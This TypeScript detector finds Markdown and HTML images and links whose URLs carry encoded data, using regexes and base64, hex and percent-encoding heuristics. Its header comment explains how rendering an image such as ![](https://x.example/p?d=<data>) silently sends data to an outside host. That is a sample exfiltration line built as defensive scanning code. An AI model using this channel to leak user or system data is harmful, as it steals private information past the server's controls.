// Images and links whose URL carries data. A client renders a Markdown image by fetching it, so a result
// holding ![](https://x.example/p?d=<data>) sends <data> to x.example with no socket from the server; a
// link does the same when the user follows it. A URL is said to carry data when a query value or a
// path segment is a long run of encoded-looking characters (base64, hex, percent-encoded text); a static
// badge or a plain page link carries none.

export interface DataUrl {
  url: string
  host: string
  image: boolean
  /** the longest encoded-looking run in the query or path (empty: none) */
  data: string
  /** where the image or link starts in the text */
  index: number
}

const MAX_URLS = 20
const MAX_URL_CHARS = 8_192
const MARKDOWN_IMAGE = /(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)/gi
const REFERENCE_IMAGE = /(!?)\[[^\]\n]{0,500}\]\[([^\]\n]{1,100})\]/g
const REFERENCE = /^\s{0,3}\[([^\]\n]{1,100})\]:\s*<?(https?:\/\/\S+?)>?(?:\s|$)/gm
const HTML_IMAGE = /<img\b[^>]{0,500}?\bsrc\s*=\s*["']?(https?:\/\/[^\s"'>]+)/gi
/** a data-looking run: base64/base64url/hex/percent-encoding, at least 24 characters (65 in a path segment) */
const ENCODED_RUN = /[A-Za-z0-9+/=_%-]{24,}/g

/** The images and links of Markdown or HTML in the text whose URL is http(s). */
export function findDataUrls(text: string): DataUrl[] {
  if (!/https?:\/\//i.test(text)) return []
  const out: DataUrl[] = []
  const add = (raw: string, image: boolean, index: number): void => {
    if (out.length >= MAX_URLS) return
    const url = raw.slice(0, MAX_URL_CHARS)
    let parsed: URL
    try {
      parsed = new URL(url)
    } catch {
      return
    }
    out.push({ url, host: parsed.hostname.toLowerCase(), image, data: dataIn(parsed), index })
  }
  for (const match of text.matchAll(MARKDOWN_IMAGE)) add(match[2] as string, match[1] === '!', match.index)
  for (const match of text.matchAll(HTML_IMAGE)) add(match[1] as string, true, match.index)
  if (text.includes('][')) {
    const references = new Map<string, string>()
    for (const match of text.matchAll(REFERENCE)) references.set((match[1] as string).toLowerCase(), match[2] as string)
    for (const match of text.matchAll(REFERENCE_IMAGE)) {
      const url = references.get((match[2] as string).toLowerCase())
      if (url) add(url, match[1] === '!', match.index)
    }
  }
  return out
}

/** The longest run in the query values and path segments that looks like encoded data. */
function dataIn(url: URL): string {
  let longest = ''
  const consider = (value: string, minimum: number): void => {
    for (const match of value.matchAll(ENCODED_RUN)) {
      const run = match[0]
      if (run.length < minimum) continue
      // Encoded data mixes letters and digits (or is percent-encoded text); a long-word slug does not.
      const looksEncoded = (/[0-9]/.test(run) && /[A-Za-z]/.test(run)) || /%[0-9A-Fa-f]{2}/.test(run)
      if (looksEncoded && !/^[a-z]+(?:-[a-z]+)+$/.test(run) && run.length > longest.length) longest = run
    }
  }
  consider(url.search, 24)
  // A path segment of a content hash (40 or 64 hex digits) names a static file; more is data.
  for (const segment of url.pathname.split('/')) consider(segment, 65)
  return longest
}
